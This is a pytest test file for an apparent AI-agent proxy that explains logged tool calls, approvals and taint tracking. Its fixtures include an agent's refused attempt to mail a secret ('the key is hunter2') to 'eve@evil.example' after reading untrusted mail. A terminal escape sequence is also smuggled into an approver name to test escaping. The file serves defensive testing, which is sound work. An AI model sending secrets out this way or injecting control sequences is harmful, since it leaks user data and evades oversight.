"""What a run's records are told as: golden sentences, and the graph, from a log that the real core and log wrote."""

from __future__ import annotations

import json
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path

import pytest

from trionyx_proxy.core.label import TOP
from trionyx_proxy.core.request import Reason
from trionyx_proxy.inquiry import Inquiry, inquire
from trionyx_proxy.story import report
from trionyx_proxy.story.chronicle import Ending, Entry
from trionyx_proxy.story.explanation import Basis, Trust, explain
from trionyx_proxy.story.graph import graph_of
from trionyx_proxy.story.reading import read
from trionyx_proxy.story.sentence import sentences
from trionyx_testing.telling import drafts, write_log

TITLES = {
    "d1": {
        "CAT-001": Reason("CAT-001", "the catalog knows the tool"),
        "EGR-001": Reason("EGR-001", "no", "ask"),
    }
}
VERIFIED = Basis("corp.example/trionyx/01JRUN", Trust.VERIFIED, (), 13)


@pytest.fixture(scope="module")
def inquiry(tmp_path_factory: pytest.TempPathFactory) -> Inquiry:
    return inquire(write_log(tmp_path_factory.mktemp("story") / "log"), None, unverified=False)


def told(inquiry: Inquiry, call: str, *, with_values: bool = False) -> str:
    explanation = inquiry.explain(inquiry.call(call), TITLES, with_values=with_values)
    return "\n".join(sentences(explanation))


def test_a_theft_that_failed(inquiry: Inquiry) -> None:
    assert told(inquiry, "s1", with_values=True) == (
        "Call 2 (s1) of run 01JRUN: mail__send\n"
        "The log corp.example/trionyx/01JRUN (13 records) was NOT VERIFIED, since no key was given: whoever can write "
        "to it can have made this up.\n"
        "\n"
        "At 2025-11-21 01:53:26 UTC the agent inbox, acting for emma of acme, called mail__send, a tool with the "
        "effect egress.\n"
        "The agent's own id for it is toolu_s1.\n"
        "\n"
        "Where its arguments came from:\n"
        "  /body (content): nobody trusted vouches for it. The agent may have it from anywhere.\n"
        "      “the key is hunter2”\n"
        "  /to/0 (target): nobody trusted vouches for it. The agent may have it from anywhere.\n"
        "      “eve@evil.example”\n"
        "\n"
        "The policy allowed it, by this rule:\n"
        "  CAT-001: “the catalog knows the tool”.\n"
        "The proxy refused it, by this rule:\n"
        "  TRX-FLOW: “what this run has seen may not flow to where this call would send it”.\n"
        "      What would be allowed: “choose a recipient or place that is cleared for it, or do "
        "this in a fresh run”.\n"
        "\n"
        "When it was decided, the run had seen text that anybody may have written, secret data and what only emma may "
        "read.\n"
        "  It was tainted, with text that anybody may have written, secret data and what only emma may read, since "
        "call 1, mail__read, was let through: its results are declared so (record 2).\n"
        "Into this call may flow no more than text of any origin, data up to the level internal, nothing that only "
        "some may read and data of no protected category. What the run had seen goes BEYOND that.\n"
        "The call added nothing to that.\n"
        "\n"
        "It was not carried out, and the agent was told so in the words of the rules."
    )


def test_a_call_of_a_run_without_a_token_has_no_agent(inquiry: Inquiry) -> None:
    explanation = inquiry.explain(inquiry.call("s1"), TITLES, with_values=False)
    nobodys = replace(explanation, call=replace(explanation.call, caller=("", "", "")))
    text = "\n".join(sentences(nobodys))
    assert " UTC an agent without a run token called mail__send" in text and "“”" not in text


def test_the_call_that_tainted_the_run(inquiry: Inquiry) -> None:
    text = told(inquiry, "1")
    assert "/id (selector): it stands in the registered prompt. It counts as written by the user." in text
    assert "m1" not in text, "values are shown on request only"
    assert "the run had seen only the user's own words and nothing confidential." in text
    assert "  So it began, and no call before this one had changed that." in text
    assert (
        "raised the run's label: from then on the run had seen text that anybody may have written, secret"
        in text
    )
    assert text.endswith("The tool carried it out and gave a result, which was given to the agent.")


def test_an_approved_call_says_who_was_asked_and_what_was_hidden(inquiry: Inquiry) -> None:
    text = told(inquiry, "r2")
    assert (
        "/id (selector): it stands in the result of call 1, mail__read, at /messages/0/id; also it stands in the "
        "result of the call gone, mail__read, which is not in this log, at /x. It counts as written by the "
        "organisation."
    ) in text
    assert "On condition: untrusted text of the result is shown as handles only (rule FLOW-100)." in text
    assert "A person was asked about it once, who could answer until 2025-11-21 02:03:20 UTC." in text
    assert "dana approved it (approval a-r2)." in text
    assert "Of that, 10 bytes of text reached the agent only as handles." in text


@pytest.mark.parametrize(
    ("call", "sentence"),
    [
        ("x1", "emma of acme, sent a message that never became a call. It named “mail__burn”."),
        ("x1", "TRX-UNKNOWN-TOOL: “no such tool is known here”."),
        ("r3", "/id (selector): a person, or a rule of the operator, has endorsed it (e1)."),
        ("r3", "The policy denied it, by this rule:\n  EGR-001: “no”.\n      What would be allowed: “ask”."),
        ("r4", "/id (selector, a handle): it stands in the registered prompt."),
        ("r4", "The tool gave no usable result (timeout): it had been sent, and may have taken effect."),
        ("r5", "No origins of arguments are recorded for it."),
        ("r5", "The log holds no end of it"),
    ],
)
def test_other_ends(inquiry: Inquiry, call: str, sentence: str) -> None:
    assert sentence in told(inquiry, call)


def test_a_rule_of_a_bundle_that_is_not_at_hand_keeps_its_id(inquiry: Inquiry) -> None:
    text = "\n".join(sentences(inquiry.explain(inquiry.call("r3"), {"d2": TITLES["d1"]}, with_values=False)))
    assert "  EGR-001.\n" in text and "“no”" not in text
    assert "the bundle that decided, which is not at hand: revision 1, digest d1." in text


def test_the_stable_form_says_the_same(inquiry: Inquiry) -> None:
    value = json.loads(
        json.dumps(report.to_json(inquiry.explain(inquiry.call("r2"), TITLES, with_values=True)))
    )
    assert value["schema"] == "trionyx.explain/v1"
    assert value["log"]["trust"] == "unchecked"
    assert value["call"]["number"] == 3 and value["call"]["ending"] == "ok"
    (argument,) = value["arguments"]
    assert argument["value"] == "m7" and argument["value_cut"] is False
    assert [(source["number"], source["earlier"], source["pointer"]) for source in argument["sources"]] == [
        (1, True, "/messages/0/id"),
        (0, False, "/x"),
    ]
    assert value["decision"]["rules"] == [
        {"id": "CAT-001", "title": "the catalog knows the tool", "remedy": "", "known": True}
    ]
    assert value["approval"] == {
        "questions": 1, "id": "a-r2", "by": "dana", "why": "", "expires_ms": 1_763_690_600_000,
    }  # fmt: skip
    assert {cause["part"] for cause in value["label"]["causes"]} == {"integrity", "level", "readers"}
    assert {cause["number"] for cause in value["label"]["causes"]} == {1}


def test_a_graph_has_the_calls_in_order_and_where_their_arguments_came_from(inquiry: Inquiry) -> None:
    graph = graph_of(inquiry.chronicle, inquiry.basis)
    assert [node.id for node in graph.nodes] == [
        "prompt", "endorsement", "elsewhere", "c1", "c2", "c3", "c4", "c5", "c6", "c7",
    ]  # fmt: skip
    assert [node.ending for node in graph.nodes if node.kind == "call"] == [
        "ok", "denied", "ok", "denied", "denied", "failed", "open",
    ]  # fmt: skip
    assert {(edge.source, edge.target) for edge in graph.edges if edge.kind == "provenance"} == {
        ("prompt", "c1"), ("c1", "c3"), ("elsewhere", "c3"), ("endorsement", "c5"), ("prompt", "c6"),
    }  # fmt: skip
    taint = {edge.target: edge.notes for edge in graph.edges if edge.kind == "taint"}
    assert taint == {"c2": ("/body", "/to/0"), "c3": (), "c5": ()}
    (first,) = (node for node in graph.nodes if node.id == "c1")
    assert first.rises == ("integrity to public", "level to secret", "readers to emma")


def test_of_a_long_run_the_last_calls_are_drawn(inquiry: Inquiry) -> None:
    graph = graph_of(inquiry.chronicle, inquiry.basis, max_calls=5)
    assert [node.id for node in graph.nodes if node.kind == "call"] == ["c3", "c4", "c5", "c6", "c7"]
    assert graph.left_out == 2
    assert {edge.source for edge in graph.edges if edge.target == "c3"} == {"earlier", "elsewhere"}
    assert [edge for edge in graph.edges if edge.kind == "taint" and edge.source != "earlier"] == []


def entries(*changes: tuple[int, dict[str, object]]) -> Iterator[Entry]:
    """Give the run's records with members changed by hand, None for a member that is left out."""
    edits = dict(changes)
    for seq, (type_, body, payloads) in enumerate(drafts()):
        members = json.loads(body) | {
            name: {"bytes": len(data), "commit": "0"} for name, data in payloads.items()
        }
        members |= edits.get(seq, {})
        yield Entry(seq, type_, {name: value for name, value in members.items() if value is not None})


def test_a_source_that_came_later_is_told_as_such() -> None:
    source = {"kind": "result", "call": "r4", "tool": "t", "pointer": "/x"}
    origins = [{"arg": "/id", "handle": False, "integrity": "org", "role": "selector", "sources": [source]}]
    chronicle = read(entries((1, {"origins": origins})))
    assert "call 6, t, WHICH CAME LATER, at /x" in "\n".join(
        sentences(explain(chronicle, chronicle.calls["r1"], VERIFIED, TITLES))
    )


def test_what_a_call_adds_itself_is_no_cause_when_it_is_decided_again() -> None:
    first = list(entries())[:2]
    again = Entry(2, "call.intent", {**first[1].body, "attempt": 2})
    chronicle = read([*first, again])
    explanation = explain(chronicle, chronicle.calls["r1"], VERIFIED, TITLES)
    assert explanation.causes == () and explanation.before == chronicle.start
    assert [rise.seq for rise in explanation.added] == [1]
    assert "It was decided for release 2 times" in "\n".join(sentences(explanation))


def test_text_behind_a_handle_has_a_source_and_is_nobodys_word() -> None:
    source = {"kind": "handle", "call": "r1", "tool": "mail__read", "pointer": "/0/body"}
    origins = [{"arg": "/id", "handle": True, "integrity": "public", "role": "content", "sources": [source]}]
    chronicle = read(entries((5, {"origins": origins})))
    told = "\n".join(sentences(explain(chronicle, chronicle.calls["r2"], VERIFIED, TITLES)))
    assert (
        "/id (content, a handle): it is the text behind a handle of call 1, mail__read, at /0/body. "
        "It counts as written by anybody."
    ) in told
    edges = {
        (edge.source, edge.target, edge.kind): edge.notes for edge in graph_of(chronicle, VERIFIED).edges
    }
    assert edges["c1", "c3", "provenance"] == ("/id <- /0/body",)
    assert edges["c1", "c3", "taint"] == ("/id",)


def test_an_unreadable_label_is_the_top_and_its_record_the_cause() -> None:
    chronicle = read(entries((3, {"label": None})))
    assert chronicle.label == TOP
    call = chronicle.calls["r2"]
    assert explain(chronicle, call, VERIFIED, TITLES).causes[-1].seq == 3


def test_records_of_another_run_and_of_unknown_types_are_passed_over() -> None:
    strange = [
        Entry(90, "call.intent", {"run": "other", "call": "z"}),
        Entry(91, "moon.phase", {"run": "01JRUN", "call": "z"}),
    ]
    chronicle = read([*entries(), *strange])
    assert "z" not in chronicle.calls
    assert (chronicle.records, chronicle.foreign) == (14, 1)


def test_acts_of_people_are_told_with_the_calls_they_touch() -> None:
    acts = [
        Entry(
            90, "endorsement.given", {"run": "01JRUN", "endorsement": "e1", "by": "dana", "role": "selector"}
        ),
        Entry(91, "approval.approved", {"run": "01JRUN", "call": "s1", "by": "dana\x1b[2J"}),
        Entry(92, "approval.given", {"run": "01JRUN", "call": "elsewhere", "by": "dana"}),
    ]
    chronicle = read([*entries(), *acts])
    lines = {
        call: "\n".join(sentences(explain(chronicle, chronicle.calls[call], VERIFIED, TITLES)))
        for call in ("r3", "s1", "r1")
    }
    assert "At “” a value was endorsed (record 90: by dana, endorsement e1, role selector)." in lines["r3"]
    assert "a person said yes (record 91: by “dana\\x1b[2J”, call s1)." in lines["s1"]
    assert "record 9" not in lines["r1"]


def test_a_call_left_in_doubt_may_have_taken_effect() -> None:
    last = Entry(90, "call.outcome", {"run": "01JRUN", "call": "r5", "status": "in_doubt", "withheld": True})
    chronicle = read([*entries(), last])
    assert chronicle.calls["r5"].ending is Ending.IN_DOUBT
    explanation = explain(chronicle, chronicle.calls["r5"], VERIFIED, TITLES)
    assert "No process saw its end: it may have taken effect." in "\n".join(sentences(explanation))
    assert "outcome" in report.to_json(explanation)


@pytest.mark.parametrize("withheld", [True, None, "no"])
def test_a_result_is_told_as_withheld_unless_the_record_says_it_was_not(withheld: object) -> None:
    chronicle = read(entries((2, {"withheld": withheld})))
    told = "\n".join(sentences(explain(chronicle, chronicle.calls["r1"], VERIFIED, TITLES)))
    assert "The tool carried it out and gave a result, which WAS WITHHELD from the agent." in told


def test_the_graph_of_nothing_is_a_graph(tmp_path: Path) -> None:
    empty = inquire(write_log(tmp_path / "log", iter(())), None, unverified=False)
    assert [node.id for node in graph_of(empty.chronicle, empty.basis).nodes] == ["prompt"]
